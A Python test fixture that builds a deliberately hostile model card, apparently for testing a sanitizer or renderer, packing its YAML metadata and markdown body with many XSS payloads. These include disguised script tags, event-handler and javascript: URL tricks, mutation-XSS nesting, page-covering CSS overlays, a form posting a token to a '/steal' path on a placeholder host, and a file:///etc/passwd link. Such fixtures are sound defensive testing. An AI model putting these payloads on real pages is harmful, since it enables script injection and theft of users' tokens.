"""A card that tries everything at once: scripts in their disguises, styles that cover the page, and what phones home."""

from __future__ import annotations

ELSEWHERE = "http://192.0.2.7"
"""An address of the documentation network: nothing answers there, and a request to it is one that must not be made."""
RAN = "window.cardRan=(window.cardRan||0)+1"
_DISGUISES = f"""
<script>{RAN}</script>
<ScRiPt src="{ELSEWHERE}/a.js"></sCrIpT >
<script/x>{RAN}</script>
<scr<script>ipt>{RAN}</script>
<svg onload="{RAN}"><script>{RAN}</script><animate onbegin="{RAN}" attributeName="x" dur="1s"></svg>
<svg><a xlink:href="javascript:{RAN}"><text y="20">x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="{RAN}"></style></mglyph></table></mtext></math>
<math><a xlink:href="javascript:{RAN}">x</a></math>
<img src=x onerror="{RAN}"><img src="{ELSEWHERE}/p.png"><img srcset="{ELSEWHERE}/q.png 1x" src="x.png" onload="{RAN}">
<image src=x onerror="{RAN}"><picture><source srcset="{ELSEWHERE}/r.png"><img src="data:image/svg+xml,<svg onload='{RAN}'>"></picture>
<iframe src="javascript:parent.cardRan=1"></iframe><iframe srcdoc="<script>parent.cardRan=1</script>"></iframe>
<object data="{ELSEWHERE}/o.swf"></object><embed src="{ELSEWHERE}/e.swf"><applet code=x></applet>
<link rel="stylesheet" href="{ELSEWHERE}/s.css"><meta http-equiv="refresh" content="0;url={ELSEWHERE}/"><base href="{ELSEWHERE}/">
<style>@import url({ELSEWHERE}/i.css); * {{ display: none !important; background: url({ELSEWHERE}/b.png) }}</style>
<div style="position:fixed;inset:0;z-index:9999;background:url({ELSEWHERE}/c.png)">covers the page</div>
<form action="{ELSEWHERE}/steal"><input name=token autofocus onfocus="{RAN}"><button formaction="javascript:{RAN}">x</button></form>
<video autoplay onloadstart="{RAN}" poster="{ELSEWHERE}/v.png"><source src="{ELSEWHERE}/v.mp4" onerror="{RAN}"></video><audio src="{ELSEWHERE}/a.mp3" autoplay></audio>
<details open ontoggle="{RAN}"><summary>x</summary></details><marquee onstart="{RAN}">x</marquee>
<body onload="{RAN}"><p onpointerrawupdate="{RAN}" onanimationend="{RAN}" style="animation: x 1ms">x</p>
<a href="javascript:{RAN}" id="click-1">a</a> <a href="jAvAsCrIpT:{RAN}">b</a> <a href="java&#x09;script:{RAN}">c</a>
<a href="&#1;javascript:{RAN}">d</a> <a href="data:text/html,<script>opener.cardRan=1</script>">e</a> <a href="file:///etc/passwd">f</a>
<a href="vbscript:x">g</a> [h](javascript:{RAN}) [i](<javascript:{RAN}>) ![j]({ELSEWHERE}/j.png) <javascript:{RAN}>
<template><script>{RAN}</script></template><noscript><p title="</noscript><img src=x onerror={RAN}>"></noscript>
<xmp><p title="</xmp><img src=x onerror={RAN}>"></xmp><textarea><img src=x onerror="{RAN}"></textarea><select><option><img src=x onerror={RAN}></select>
<p id="address" name="tabs">takes a name of the page</p><p class="pg-verdict">looks like the page</p>
<!--><img src=x onerror="{RAN}">--> <![CDATA[<img src=x onerror="{RAN}">]]> <?xml <img src=x onerror="{RAN}"> ?>
"""
CARD = (
    "---\nlicense: apache-2.0\ntags: ['<img src=x onerror=\"" + RAN + "\">', null, 3]\n"
    "model-index: [{name: x, results: [{dataset: {name: '<script>" + RAN + "</script>', type: '<b>'}, "
    "metrics: [{type: '<i onclick=x>', value: 1}]}]}]\nbase_model: '<script>'\nnew_version: 'x/\"><img src=x onerror="
    + RAN
    + ">'\n"
    "datasets: ['\"><script>"
    + RAN
    + "</script>']\n---\n# Hostile\n\nThe text after the storm is readable.\n"
    + _DISGUISES
    + "\n\nStill here.\n"
)
